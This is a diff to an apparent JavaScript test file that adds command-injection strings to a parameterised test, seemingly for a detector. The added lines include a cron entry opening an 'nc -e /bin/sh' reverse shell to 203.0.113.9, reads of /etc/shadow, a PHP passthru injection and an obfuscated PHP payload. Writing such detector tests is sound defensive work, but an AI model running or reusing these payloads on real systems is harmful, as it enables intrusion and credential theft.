@@ -38,6 +38,16 @@ describe('a command in command position', () => {
 
   test.each([
     'Ann Smith|cat notes.txt',
+    '-c 5 127.0.0.1; id',
+    '* * * * * root nc -e /bin/sh 203.0.113.9 443',
+    '@reboot cat /etc/shadow > /srv/x',
+    'echo xy$()z || a',
+    ';xyzd /flag',
+    'a.txt|xyzd 203.0.113.9',
+    ';xyzd /etc/shadow',
+    '|xyz.sh',
+    "'.passthru($HTTP_GET_VARS[x]).'",
+    '(~\u008c\u0086\u008c)(~\u0093\u008c);',
     '; !id',
     'a.txt; aws s3 ls',
     'a.txt;gcloud auth print-access-token',
